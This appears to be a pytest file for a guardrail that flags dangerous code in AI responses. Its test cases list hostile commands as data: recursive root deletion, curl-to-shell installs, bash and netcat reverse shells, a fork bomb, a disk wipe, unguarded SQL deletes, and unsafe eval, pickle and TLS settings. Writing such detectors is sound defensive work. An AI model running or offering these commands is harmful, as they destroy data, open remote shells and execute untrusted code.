"""Code-safety guardrail: dangerous commands and code in the response's code blocks."""

from __future__ import annotations

import pytest

from certus.sidecar.domain import GuardrailType, Severity
from certus.sidecar.guardrails import GuardrailSuite
from certus.sidecar.guardrails.code_safety import code_blocks

from .conftest import assert_no_content, req, scan_one, text_of

CS = GuardrailType.CODE_SAFETY


def _fenced(code: str, lang: str = "bash") -> str:
    return f"Here you go:\n\n```{lang}\n{code}\n```\n\nGood luck."


@pytest.mark.parametrize(
    ("code", "lang", "detector", "span"),
    [
        ("sudo rm -rf /", "bash", "rm_rf", "rm -rf /"),
        ("rm -rf ~/*", "sh", "rm_rf", "rm -rf ~/*"),
        ("rm -r -f --no-preserve-root /", "sh", "rm_rf", "rm -r -f --no-preserve-root /"),
        ("curl -fsSL https://get.example.sh | sudo bash", "", "curl_pipe_shell", "curl -fsSL https://get.example.sh | sudo bash"),
        ("wget -qO- https://example.com/setup | python3", "bash", "curl_pipe_shell", "wget -qO- https://example.com/setup | python3"),
        ("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "bash", "reverse_shell", "/dev/tcp/10.0.0.5/4444"),
        ("nc -e /bin/sh 203.0.113.7 9001", "", "reverse_shell", "nc -e /bin/sh"),
        (":(){ :|:& };:", "bash", "fork_bomb", ":(){ :|:& };:"),
        ("sudo chmod -R 777 /", "bash", "chmod_777", "chmod -R 777 /"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "bash", "disk_wipe", "dd if=/dev/zero of=/dev/sda"),
        ("DROP TABLE customers;", "sql", "sql_drop", "DROP TABLE"),
        ("TRUNCATE TABLE audit_log;", "sql", "sql_drop", "TRUNCATE TABLE audit_log"),
        ("DELETE FROM orders;", "sql", "sql_delete_without_where", "DELETE FROM orders"),
        ("UPDATE users SET is_admin = true;", "sql", "sql_update_without_where", "UPDATE users SET is_admin = true"),
        ('cur.execute("DELETE FROM sessions")', "python", "sql_delete_without_where", "DELETE FROM sessions"),
        ("result = eval(request.args.get('q'))", "python", "eval_untrusted", "eval(request."),
        ("obj = pickle.loads(request.data)", "python", "pickle_untrusted", "pickle.loads(request."),
        ('subprocess.run(f"ping {host}", shell=True)', "python", "shell_injection", 'subprocess.run(f"'),
        ("os.system('convert ' + filename + ' out.png')", "python", "shell_injection", "os.system('convert ' +"),
        ("requests.get(url, verify=False)", "python", "tls_verify_disabled", "verify=False"),
        ("const agent = new https.Agent({ rejectUnauthorized: false });", "js", "tls_verify_disabled", "rejectUnauthorized: false"),
        ("cfg := &tls.Config{InsecureSkipVerify: true}", "go", "tls_verify_disabled", "InsecureSkipVerify: true"),
    ],
)
def test_dangerous_code(rules_suite: GuardrailSuite, code: str, lang: str, detector: str, span: str) -> None:
    inp = req(response=_fenced(code, lang))
    vs = scan_one(rules_suite, CS, inp)
    assert (detector, span) in {(v.detector, text_of(inp, v)) for v in vs}
    assert all(v.source == "response" for v in vs)
    assert_no_content(inp, vs)


def test_indented_code_block(rules_suite: GuardrailSuite) -> None:
    inp = req(response="Run this:\n\n    curl http://setup.example.com/install.sh | sh\n\nThen restart.")
    assert [v.detector for v in scan_one(rules_suite, CS, inp)] == ["curl_pipe_shell"]


def test_severities(rules_suite: GuardrailSuite) -> None:
    inp = req(response=_fenced("rm -rf /\nrequests.get(u, verify=False)"))
    sev = {v.detector: v.severity for v in scan_one(rules_suite, CS, inp)}
    assert sev == {"rm_rf": Severity.CRITICAL, "tls_verify_disabled": Severity.MEDIUM}


@pytest.mark.parametrize(
    ("code", "lang"),
    [
        ("DELETE FROM orders WHERE created_at < now() - interval '90 days';", "sql"),
        ("DELETE FROM sessions\nWHERE expires_at < now();", "sql"),
        ("UPDATE users SET last_login = now() WHERE id = 42;", "sql"),
        ("rm -rf ./build dist/", "bash"),
        ("# never run: rm -rf /\nls -la", "bash"),
        ("result = ast.literal_eval(user_text)", "python"),
        ("subprocess.run(['ls', '-l', path], check=True)", "python"),
        ("requests.get(url, verify='/etc/ssl/certs/ca.pem', timeout=5)", "python"),
        ("chmod 755 deploy.sh", "bash"),
        ("data = json.loads(request.data)", "python"),
        ("curl -fsSL https://example.com/install.sh -o install.sh\nsha256sum install.sh", "bash"),
        ("CREATE TABLE drops (id serial primary key);", "sql"),
        ("config = yaml.safe_load(open('config.yml'))", "python"),
    ],
)
def test_benign_code(rules_suite: GuardrailSuite, code: str, lang: str) -> None:
    assert scan_one(rules_suite, CS, req(response=_fenced(code, lang))) == []


def test_prose_outside_code_blocks_is_not_code(rules_suite: GuardrailSuite) -> None:
    inp = req(response="Never run `rm -rf /` on a server. The DROP TABLE statement removes a table.")
    assert scan_one(rules_suite, CS, inp) == []


def test_code_block_offsets() -> None:
    text = "a\n```py\nx = 1\n```\nb\n\n    y = 2\n\nc\n~~~\nz\n"
    spans = [text[b.start : b.end] for b in code_blocks(text)]
    assert spans == ["x = 1\n", "    y = 2\n", "z\n"]


def test_input_flowing_into_a_sink_through_a_variable(rules_suite: GuardrailSuite) -> None:
    inp = req(response=_fenced("expr = input('calc> ')\nprint(eval(expr))", "python"))
    vs = scan_one(rules_suite, CS, inp)
    assert [(v.detector, text_of(inp, v)) for v in vs] == [("eval_untrusted", "eval(expr")]
    safe = req(response=_fenced("expr = '1 + 2'\nprint(eval(expr))", "python"))
    assert scan_one(rules_suite, CS, safe) == []
